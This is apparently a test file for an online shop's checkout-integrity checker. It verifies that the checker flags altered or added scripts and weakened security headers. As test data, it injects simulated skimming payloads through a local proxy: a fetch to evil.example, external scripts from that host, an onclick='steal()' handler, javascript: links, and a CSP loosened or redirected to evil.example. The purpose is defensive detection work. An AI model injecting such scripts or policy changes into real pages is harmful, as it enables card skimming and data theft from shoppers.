import { createServer, type IncomingHttpHeaders } from 'node:http'
import { join } from 'node:path'

import t, { type Test } from 'tap'

import { freePort } from '#dev/processes/ports.ts'
import { readScriptInventory } from '#server/pages/render/page-assets.ts'
import { checkDocument } from '#server/script-check/check-document.ts'
import { checkHeaders, nonceOf } from '#server/script-check/check-headers.ts'
import { createVisitor, openCheckout } from '#server/script-check/open-checkout.ts'
import type { PageModule } from '#shared/page/page-module.ts'
import { listenLocally } from '#test/support/listen-locally.ts'
import { startShop } from '#test/support/test-shop.ts'

import { runCommand, type CommandResult } from '../cli/run-command.ts'

const ROOT = join(import.meta.dirname, '../../..')
const POLICY = 'content-security-policy'

const payPal = {
  PAYPAL_CLIENT_ID: 'c1',
  PAYPAL_ENVIRONMENT: 'sandbox',
  PAYPAL_CLIENT_SECRET: 's',
  PAYPAL_WEBHOOK_ID: 'w',
}
const shop = await startShop(t, { env: payPal })
const inventory = await readScriptInventory(join(ROOT, 'dist/client'), shop.app.build)
const { inlineScript } = ((await import(join(ROOT, 'dist/server/index.js'))) as { default: PageModule }).default
/** A script that checkout loads on demand. */
const lazy = inventory.scripts.find(({ file }) => file.includes('/browser-shop-data-'))?.file ?? ''

t.test('the script check passes on a running shop and leaves no product in a cart', async (t) => {
  const asked: string[] = []
  const origin = await tamper(t, { see: (line) => asked.push(line) })
  const { code, output } = await check(origin)
  t.equal(code, 0, output)
  t.match(output, /\/en\/checkout\/payment, build \w+\n/)
  t.equal(output.match(/in order/g)?.length, 4)
  t.match(asked.filter((line) => !line.startsWith('GET')).at(-1), /^DELETE \/api\/carts\/\w+\/line-items\//)
  t.notOk(asked.some((line) => /payment-sessions|complete/.test(line)))
})

for (const [what, change, named] of [
  [
    'one byte of a script',
    { path: () => lazy, body: (text) => text.replace(/;?$/, ' ') },
    /DIFFERS: \/assets\/browser-shop-data-\S+ was changed/,
  ],
  [
    'a script that loads one more',
    { path: () => lazy, body: (text) => `${text}import("./skimmer.js")` },
    /DIFFERS: \/assets\/skimmer\.js was added/,
  ],
  [
    'a script that is missing',
    { path: () => lazy, status: 404 },
    /DIFFERS: \/assets\/browser-shop-data-\S+ is missing/,
  ],
  [
    'an inline script more',
    { body: (html) => html.replace('</body>', '<script>fetch("https://evil.example")</script></body>') },
    /DIFFERS: an inline script is not in the inventory: fetch/,
  ],
  [
    'a weaker policy',
    { policy: (policy) => policy.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'") },
    /DIFFERS: Content-Security-Policy: script-src also allows 'unsafe-inline'/,
  ],
] satisfies [string, Change, RegExp][]) {
  t.test(`the script check reports a difference in a running shop: ${what}`, async (t) => {
    const { code, output } = await check(await tamper(t, change))
    t.equal(code, 3, output)
    t.match(output, named)
  })
}

t.test('the script check reports every added script and every missing hash', async (t) => {
  const [{ html }] = await openCheckout(createVisitor(shop.url))
  t.same(checkDocument(html, inventory, inlineScript), [])
  for (const [change, named] of [
    [
      (text) => text.replace('</body>', '<script src="https://evil.example/x.js"></script>'),
      /^script https:\/\/evil\.ex/,
    ],
    [
      (text) => text.replace('</body>', '<script/src=//evil.example>'),
      /^the page has a script element that is not closed/,
    ],
    [(text) => text.replace('<main', '<main onclick="steal()"'), /^the page has an attribute that runs a script/],
    [(text) => text.replace('<main', '<iframe src="/x"></iframe><main'), /^the page has an element that loads another/],
    [(text) => text.replace('href="/en"', 'href="javascript:steal()"'), /^the page has a javascript: /],
    [(text) => text.replaceAll(/ integrity="sha384-[^"]*"/g, ''), /^script \/assets\/index-\S+ has no integrity/],
    [
      (text) => text.replace(/(importmap[^>]*>.{0,80}?sha384-)./, '$1!'),
      /^the import map is not that of the inventory/,
    ],
    [(text) => text.replace(/<script type="importmap".*?<\/script>/, ''), /^the import map is there 0 times/],
    [(text) => text.replace(/(name="scripts" content="\S+?#)./, '$1!'), /^preloaded script \S+ has no integrity/],
  ] satisfies [(text: string) => string, RegExp][])
    t.match(checkDocument(change(html), inventory, inlineScript)[0], named)
})

t.test("the script check reports every header that is weaker than the build's", async (t) => {
  const [{ headers }, again] = await openCheckout(createVisitor(shop.url))
  const differences = (name: string, change: (value: string) => string | undefined) => {
    const changed = new Headers(headers)
    const value = change(headers.get(name) ?? '')
    if (value === undefined) changed.delete(name)
    else changed.set(name, value)
    return checkHeaders(changed, { inlineScript, payPal: shop.config.publicConfig.payPal, isHttps: false })
  }
  t.same(
    differences('x-more', () => '1'),
    [],
  )
  t.not(nonceOf(headers), nonceOf(again.headers))
  for (const name of ['content-security-policy', 'reporting-endpoints', 'x-content-type-options', 'cache-control'])
    t.match(differences(name, () => undefined)[0], new RegExp(`^header ${name} is missing`))
  const ofPolicy = (change: (policy: string) => string) => differences('content-security-policy', change)[0]
  t.match(
    ofPolicy((policy) => policy.replace("connect-src 'self'", "connect-src 'self' https:")),
    /connect-src also allows https:/,
  )
  t.match(
    ofPolicy((policy) => policy.replace("base-uri 'none'; ", '')),
    /base-uri is missing/,
  )
  t.match(
    ofPolicy((policy) => `${policy}; script-src-elem *`),
    /script-src-elem was added/,
  )
  t.match(
    ofPolicy((policy) => policy.replace('report-uri /api/csp-reports', 'report-uri //evil.example')),
    /report-uri also allows \/\/evil/,
  )
  t.match(
    ofPolicy((policy) => policy.replace('report-to csp', '')),
    /report-to is missing/,
  )
  t.equal(
    ofPolicy((policy) => `default-src *, ${policy}`),
    undefined,
    'a browser enforces each of several policies',
  )
})

t.test('the script check explains why it could not compare anything', async (t) => {
  const unreachable = await check(`http://127.0.0.1:${await freePort(0, 'PORT')}`)
  t.equal(unreachable.code, 2)
  t.match(unreachable.output, /does not answer \(ECONNREFUSED\)/)
  const unnamed = await check()
  t.equal(unnamed.code, 2)
  t.match(unnamed.output, /One address of a shop is needed/)
  const unbuilt = await check(shop.url, '--dist', import.meta.dirname)
  t.equal(unbuilt.code, 2)
  t.match(unbuilt.output, /holds no build with an inventory/)
})

t.test('the script check lists the purpose of each script of the payment page', async (t) => {
  const { code, output } = await check('--list')
  t.equal(code, 0)
  t.match(
    output,
    /\/assets\/checkout-page-\S+ \(at once\)\n +Checkout: contact, address, delivery, payment, and placing the order\n +sha384-/,
  )
  t.match(output, /https:\/\/\*\.paypal\.com: PayPal's SDK/)
  t.notMatch(output, /purpose unknown/)
})

interface Change {
  /** The path of the response to change; by default every checkout document. */
  path?: () => string
  body?: (text: string) => string
  policy?: (policy: string) => string
  status?: number
  see?: (line: string) => void
}

/** A proxy in front of the shop that changes its responses. */
async function tamper(t: Test, { path, body, policy, status, see }: Change): Promise<string> {
  const server = createServer((request, response) => {
    see?.(`${request.method} ${request.url}`)
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const own: IncomingHttpHeaders = { ...request.headers, 'accept-encoding': 'identity' }
      for (const name of ['connection', 'content-length', 'transfer-encoding']) delete own[name]
      const options = {
        method: request.method ?? 'GET',
        headers: own as Record<string, string>,
        redirect: 'manual' as const,
      }
      const pass = async (): Promise<void> => {
        const answer = await fetch(
          shop.url + request.url,
          chunks.length > 0 ? { ...options, body: Buffer.concat(chunks) } : options,
        )
        const changed = path ? request.url === path() : (request.url ?? '').startsWith('/en/checkout')
        const answerHeaders = Object.fromEntries(answer.headers) as Record<string, string>
        for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
          delete answerHeaders[name]
        if (changed && policy) answerHeaders[POLICY] = policy(answerHeaders[POLICY] ?? '')
        const text = await answer.text()
        response.writeHead(changed && status ? status : answer.status, {
          ...answerHeaders,
          'set-cookie': answer.headers.getSetCookie(),
        })
        response.end(changed && body ? body(text) : text)
      }
      pass().catch(() => response.destroy())
    })
  })
  return listenLocally(t, server)
}

async function check(...args: string[]): Promise<CommandResult> {
  return runCommand('check-scripts-command.ts', args, { NODE_ENV: 'production' })
}
